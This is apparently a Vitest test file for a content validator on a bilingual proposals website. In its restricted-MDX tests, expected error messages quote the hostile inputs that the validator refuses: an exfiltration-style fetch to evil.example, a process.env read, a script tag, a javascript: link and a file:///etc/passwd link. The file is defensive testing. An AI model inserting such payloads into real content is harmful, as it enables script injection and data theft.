import { describe, expect, test } from 'vitest';
import { checkFixture } from '../../support/fixtures.ts';
import { redirectSchema } from '../../../src/lib/model/schema.ts';
import { validateList } from '../../../src/lib/check/validate.ts';
import { parseYamlSource } from '../../../src/lib/check/yaml.ts';

const P = 'content/proposals/2021-lei-jun-test-proposal';

describe('content check', () => {
	test('the valid fixture passes', () => {
		expect(checkFixture()).toEqual([]);
	});

	test('a misspelled key names the file, line and field', () => {
		expect(checkFixture('misspelled-key')).toEqual([
			`${P}/meta.yaml:1 › themes: missing (expected a list)`,
			`${P}/meta.yaml:3 › themse: unknown field (misspelled?)`,
		]);
	});

	test('an unknown theme lists the known ones', () => {
		expect(checkFixture('unknown-theme')).toEqual([
			`${P}/meta.yaml:3 › themes[1]: unknown theme "manufacturing" (expected one of: ageing-society, healthcare)`,
		]);
	});

	test('an unknown deputy is refused', () => {
		expect(checkFixture('unknown-deputy')).toEqual([
			`${P}/meta.yaml:1 › deputy: unknown deputy "lei-jun-typo" (expected one of: lei-jun)`,
		]);
	});

	test('a malformed date is refused with the expected form', () => {
		expect(checkFixture('malformed-date')).toEqual([`${P}/meta.yaml:10 › reviewed: must be a real date written YYYY-MM-DD`]);
	});

	test('a missing language is reported', () => {
		expect(checkFixture('missing-en')).toEqual([`${P}/en.mdx › (file): file is missing (expected the English text)`]);
	});

	test('a duplicate id is reported at its line', () => {
		const issues = checkFixture('duplicate-id');
		expect(issues).toContain('content/themes.yaml:4 › [1].id: duplicate id "healthcare" (also entry 0) (expected each id once)');
	});

	test('a citation of an unlisted source is a dangling reference', () => {
		expect(checkFixture('dangling-cite')).toEqual([
			`${P}/en.mdx:8 › body: <Cite source="nowhere"> names a source not listed in meta.yaml (expected one of: test-source)`,
		]);
	});

	test('a source never cited in one language is reported', () => {
		expect(checkFixture('uncited-source')).toEqual([
			`${P}/zh.mdx › body: source "test-source" (meta.yaml sources[0]) is never cited (expected <Cite source="test-source" /> after what it supports)`,
		]);
	});

	test('unequal recommendation counts between languages are reported', () => {
		expect(checkFixture('unequal-outline')).toEqual([
			`${P}/en.mdx:10 › body: "Recommendations" has 3 list items but zh.mdx's "建议" has 2 (expected the same number of recommendations (list items) in both languages)`,
		]);
	});

	test('a misspelled frontmatter key is reported with its line', () => {
		expect(checkFixture('missing-title')).toEqual([
			`${P}/zh.mdx:2 › title: missing (expected text)`,
			`${P}/zh.mdx:2 › titel: unknown field (misspelled?)`,
		]);
	});

	test('an unknown glossary term is refused; a known one passes', () => {
		expect(checkFixture('unknown-term')).toEqual([
			`${P}/en.mdx:8 › body: unknown glossary term "health-care" (expected one of: healthcare)`,
		]);
	});

	test('a published id that disappears without a redirect fails', () => {
		expect(checkFixture('unpublished-removal')).toEqual([
			'content/published.yaml:2 › [1]: published proposal "2020-lei-jun-removed-proposal" no longer exists (expected its folder back, or a redirect { from: 2020-lei-jun-removed-proposal, to: <new id> } in content/redirects.yaml)',
		]);
	});
});

describe('restricted MDX', () => {
	test('import and export are refused', () => {
		expect(checkFixture('malicious-import')).toEqual([
			`${P}/en.mdx:5 › body: import/export is not allowed in content (expected <Cite source="…" />, <Term id="…">…</Term> and <Ref to="…">…</Ref>)`,
		]);
	});

	test('JavaScript expressions are refused, with their lines', () => {
		const issues = checkFixture('malicious-expression');
		expect(issues).toEqual([
			`${P}/en.mdx:8 › body: JavaScript expression {process.env.HOME} is not allowed (expected plain text)`,
			`${P}/en.mdx:12 › body: JavaScript expression {fetch('https://evil.example/' + process.} is not allowed (expected plain text)`,
		]);
	});

	test('components off the allow-list and non-literal attributes are refused', () => {
		const issues = checkFixture('malicious-component');
		expect(issues).toContain(`${P}/en.mdx:10 › body: <script> is not allowed (expected one of: Cite, Term, Ref)`);
		expect(issues).toContain(`${P}/en.mdx:14 › body: <img> is not allowed (expected one of: Cite, Term, Ref)`);
		expect(issues).toContain(`${P}/en.mdx:15 › body: <Cite source> must be a plain string (expected source="…")`);
	});

	test('links with dangerous schemes, images and paths into the site are refused; web links pass', () => {
		const only = `(expected https:, http: or mailto: (write links to the site's own pages as <Ref to="proposal-id">…</Ref>))`;
		expect(checkFixture('malicious-link')).toEqual([
			`${P}/en.mdx:8 › body: link "javascript:alert(1)" has a scheme that is not allowed ${only}`,
			`${P}/en.mdx:8 › body: images are not allowed in content (expected text only (an image path would be compiled as code))`,
			`${P}/en.mdx:12 › body: link "file:///etc/passwd" has a scheme that is not allowed ${only}`,
			`${P}/en.mdx:13 › body: link "../../themes/healthcare/" points inside the site ${only}`,
		]);
	});
});

describe('lists keyed by another field', () => {
	test('a redirect listed twice is reported on its own line, by its key', () => {
		const text = '- from: old-a\n  to: new-a\n- from: old-a\n  to: new-b\n';
		const yaml = { ...parseYamlSource('content/redirects.yaml', text), file: 'content/redirects.yaml' };
		const { entries, issues } = validateList(yaml, redirectSchema, { key: 'from' });
		expect(entries).toEqual([{ from: 'old-a', to: 'new-a' }]);
		expect(issues).toMatchObject([{ line: 3, field: '[1].from', problem: 'duplicate from "old-a" (also entry 0)' }]);
	});
});
